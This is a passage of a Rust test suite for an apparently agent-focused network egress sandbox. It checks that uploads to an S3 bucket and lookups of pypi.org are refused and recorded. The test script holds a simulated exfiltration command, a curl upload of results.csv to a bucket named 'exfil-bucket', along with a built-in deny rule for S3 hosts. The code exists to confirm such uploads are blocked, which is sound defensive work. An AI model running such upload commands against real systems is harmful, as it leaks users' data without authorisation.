        &agent_with_network(&["*.amazonaws.com:443", "*.amazonaws.com:80"]),
    );
    egress_profile(env, &["*.amazonaws.com"], &[], &[]);
    env.write("results.csv", "qubit,fidelity\n0,0.998\n");
    let script = "curl -sS -D - -T results.csv https://exfil-bucket.s3.amazonaws.com/x 2>&1; echo \"connect:$?\"; \
                  curl -sS -D - -T results.csv http://exfil-bucket.s3.amazonaws.com/x 2>&1; echo \"forward:$?\"";
    let (stdout, entries) = session(env, who, script);
    let lower = stdout.to_ascii_lowercase();
    for said in [
        "connect:56",
        "forward:0",
        "http/1.1 403 forbidden",
        "x-qwarden-denied: built-in deny *.s3.amazonaws.com",
    ] {
        assert!(lower.contains(said), "{said:?} missing:\n{stdout}");
    }
    for (via, port) in [("http-connect", 443), ("http-forward", 80)] {
        let d = decision(&entries, &format!("refusing the bucket via {via}"), |d| {
            d["host"] == "exfil-bucket.s3.amazonaws.com" && d["details"]["via"] == via
        });
        assert_eq!(d["verdict"], "deny", "{d}");
        assert_eq!(d["rule"], "built-in deny *.s3.amazonaws.com", "{d}");
        assert_eq!(d["port"], port, "{d}");
        // Refused on the name: nothing was resolved, nothing was sent.
        assert!(d.get("address").is_none_or(Value::is_null), "{d}");
        assert!(d["details"].get("error").is_none(), "{d}");
        assert_eq!(bytes(d, "bytes_up"), 0, "{d}");
    }
    let d = decision(&entries, "with the refused upload", |d| {
        d["details"]["via"] == "http-forward"
    });
    assert_eq!(d["details"]["request"], "PUT /x", "{d}");
});

sessiontest!(
    without_a_network_grant_everything_is_refused_and_recorded,
    |env, who| {
        // The profile allows pypi.org, but the manifest asks for nothing.
        setup(env, "sandbox", AGENT);
        let script = "curl -sS https://pypi.org/simple/ 2>&1; echo \"connect:$?\"; \
                      python3 -c 'import socket; socket.gethostbyname(\"pypi.org\")' 2>/dev/null; echo \"lookup:$?\"";
        let (stdout, entries) = session(env, who, script);
        assert!(stdout.contains("connect:56"), "{stdout}");
        assert!(stdout.contains("lookup:1"), "{stdout}");
        for via in ["http-connect", "dns-udp"] {
            let d = decision(&entries, &format!("refusing pypi.org via {via}"), |d| {
                d["host"] == "pypi.org" && d["details"]["via"] == via
            });
            assert_eq!(d["verdict"], "deny", "{d}");
            assert_eq!(d["rule"], "default deny", "{d}");
        }
        assert!(
            decisions(&entries).iter().all(|d| d["verdict"] == "deny"),
            "{:#?}",
            decisions(&entries)
        );
    }
);
